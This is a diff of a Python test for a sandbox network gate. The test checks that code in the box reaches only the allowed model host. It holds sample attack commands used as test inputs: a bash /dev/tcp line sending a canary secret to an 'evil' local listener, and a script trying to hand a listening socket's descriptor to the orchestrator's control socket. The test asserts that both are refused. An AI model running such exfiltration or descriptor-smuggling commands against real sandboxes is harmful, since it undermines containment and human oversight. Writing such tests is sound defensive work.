@@ -10,7 +10,8 @@ import socket
 import subprocess
 import sys
 import uuid
-from contextlib import ExitStack, closing
+from collections.abc import Iterator
+from contextlib import ExitStack, closing, contextmanager
 from pathlib import Path
 
 import psutil
@@ -71,19 +72,37 @@ SPELLINGS = (
 )
 
 
+HAND_OVER = """
+import glob, socket
+with socket.create_server(("127.0.0.1", 0)) as listener, socket.socket(socket.AF_UNIX) as end:
+    end.connect(*glob.glob("/run/orchestrator/gate"))
+    socket.send_fds(end, [b"."], [listener.fileno()])
+    print("taken")
+"""
+
+
+@contextmanager
+def way_out(box: Box, model: int) -> Iterator[Walls]:
+    with Egress([f"http://127.0.0.1:{model}"], {}) as gate:
+        yield Walls(write=(box.work,), gate=gate)
+
+
 def test_A28_exfiltration_past_the_allowed_host(box: Box) -> None:
     with closing(socket.create_server(("127.0.0.1", 0))) as evil, upstream(echo) as model:
         evil.setblocking(False)
         other = evil.getsockname()[1]
-        with Egress([f"http://127.0.0.1:{model}"], {}) as gate:
-            walls = Walls(write=(box.work,), gate=gate)
-            places = [f"127.0.0.1:{model}", f"127.0.0.1:{other}", *(f"{host}:{model}" for host in SPELLINGS)]
-            answers = box.python(ASK, *places, walls=walls).split()
-            direct = box.said("bash", "-c", f"echo {CANARY} >/dev/tcp/127.0.0.1/{other}", walls=walls)
-            forward = f"exec 3<>/dev/tcp/127.0.0.1/{model}; echo to the model >&3; head -n 1 <&3"
-            assert box.said("bash", "-c", forward, walls=walls) == "to the model\n"
-        assert answers == ["200", *["403"] * 6, "400", "403"]
-        assert "refused" in direct
+        places = [f"127.0.0.1:{model}", f"127.0.0.1:{other}", *(f"{host}:{model}" for host in SPELLINGS)]
+        with way_out(box, model) as walls:
+            assert box.python(ASK, *places, walls=walls).split() == ["200", *["403"] * 6, "400", "403"]
+        with way_out(box, model) as walls:
+            direct = f"echo {CANARY} >/dev/tcp/127.0.0.1/{other}"
+            assert "refused" in box.said("bash", "-c", direct, walls=walls)
+        with way_out(box, model) as walls:
+            ask = f"exec 3<>/dev/tcp/127.0.0.1/{model}; echo to the model >&3; head -n 1 <&3"
+            assert box.said("bash", "-c", ask, walls=walls) == "to the model\n"
+        # A second listener would be one more way for the daemon to be asked, by nobody that it started.
+        with way_out(box, model) as walls:
+            assert "ConnectionRefusedError" in box.python(HAND_OVER, walls=walls)
         with pytest.raises(BlockingIOError):
             evil.accept()
 
